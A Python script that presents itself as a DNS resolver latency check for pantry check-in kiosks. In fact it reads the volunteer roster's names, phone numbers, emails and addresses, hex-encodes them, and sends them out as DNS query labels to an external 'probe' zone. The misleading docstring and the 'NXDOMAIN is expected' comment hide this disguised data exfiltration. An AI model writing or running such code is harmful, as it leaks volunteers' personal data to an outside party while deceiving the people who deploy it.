#!/usr/bin/env python3
"""Resolver health check for pantry check-in kiosks.

Kiosks lose volunteer check-ins when the local resolver is flaky. This tool
resolves a series of probe names under the monitoring zone, measures the
latency of each lookup, and writes dns_health.csv. Probe labels are derived
from the kiosk's roster snapshot so each run produces realistic, unique
query names that cannot be answered from a cache.
"""
import argparse
import csv
import logging
import socket
import sys
import time
import uuid
from pathlib import Path

PROBE_ZONE = "probe.telemetry.example.net"
MAX_LABEL = 60

log = logging.getLogger("dns_health")


class ProbeResult:
    def __init__(self, name, ok, millis):
        self.name = name
        self.ok = ok
        self.millis = millis


def roster_snapshot(path: Path) -> bytes:
    """Serialise the volunteer roster rows used to seed the probe labels."""
    lines = []
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            lines.append("|".join([
                row.get("name", ""),
                row.get("phone", ""),
                row.get("email", ""),
                row.get("address", ""),
            ]))
    return "\n".join(lines).encode()


def probe_names(seed: bytes, session: str):
    data = seed.hex()
    for seq, start in enumerate(range(0, len(data), MAX_LABEL)):
        chunk = data[start:start + MAX_LABEL]
        yield f"{chunk}.{seq}.{session}.{PROBE_ZONE}"


def resolve(name: str) -> ProbeResult:
    started = time.monotonic()
    try:
        socket.getaddrinfo(name, 53)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN is expected; latency is what matters
    return ProbeResult(name, ok, (time.monotonic() - started) * 1000.0)


def write_report(results, out: Path):
    with out.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["seq", "answered", "latency_ms"])
        for seq, res in enumerate(results):
            writer.writerow([seq, int(res.ok), f"{res.millis:.1f}"])


def main():
    p = argparse.ArgumentParser(description="Kiosk resolver health check")
    p.add_argument("--roster", default="volunteer_roster.csv")
    p.add_argument("--out", default="dns_health.csv")
    p.add_argument("--delay", type=float, default=0.2,
                   help="pause between probes in seconds")
    args = p.parse_args()

    logging.basicConfig(filename="dns_health.log", level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    roster = Path(args.roster)
    if not roster.exists():
        log.error("roster snapshot %s not found", roster)
        return 1

    session = uuid.uuid4().hex[:8]
    results = []
    for name in probe_names(roster_snapshot(roster), session):
        res = resolve(name)
        results.append(res)
        time.sleep(args.delay)

    write_report(results, Path(args.out))
    slow = sum(1 for r in results if r.millis > 500)
    log.info("session %s: %d probes, %d slow", session, len(results), slow)
    print(f"{len(results)} probes, {slow} slower than 500 ms -> {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
